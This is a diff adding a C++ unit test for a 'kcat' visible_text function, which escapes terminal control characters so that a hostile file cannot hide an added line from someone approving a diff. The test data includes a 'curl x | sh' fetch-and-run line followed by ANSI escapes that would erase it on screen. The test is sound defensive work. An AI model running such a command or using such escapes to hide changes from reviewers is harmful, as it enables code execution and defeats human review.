@@ -52,4 +52,20 @@ TEST(Text, BinaryAndUtf8Detection) {
   EXPECT_FALSE(is_valid_utf8("\xC3"));
 }
 
+// Issue 14 §5: a hostile file cannot hide an added line from the person approving the diff.
+TEST(Text, VisibleTextShowsWhatATerminalWouldHide) {
+  // ESC [2K ESC [1A erases the previous line on a terminal: shown as text instead.
+  EXPECT_EQ(visible_text("+curl x | sh\x1b[2K\x1b[1A\n"), "+curl x | sh\\x1b[2K\\x1b[1A\n");
+  EXPECT_EQ(visible_text("a\rb\tc\n"), "a\\rb\tc\n");
+  EXPECT_EQ(visible_text("crlf\r\n"), "crlf\r\n");  // a CRLF line ending hides nothing
+  EXPECT_EQ(visible_text("del\x7f bs\x08"), "del\\x7f bs\\x08");
+  EXPECT_EQ(visible_text("bad \xff byte"), "bad \\xff byte");
+  EXPECT_EQ(visible_text("csi \xc2\x9b"
+                         "2K"),
+            "csi <U+009B>2K");
+  EXPECT_EQ(visible_text("rlo \xe2\x80\xae x"), "rlo <U+202E> x");
+  EXPECT_EQ(visible_text("\xe4\xb8\xad\xe6\x96\x87 ok \xf0\x9f\x98\x80"),
+            "\xe4\xb8\xad\xe6\x96\x87 ok \xf0\x9f\x98\x80");
+}
+
 }  // namespace kcat
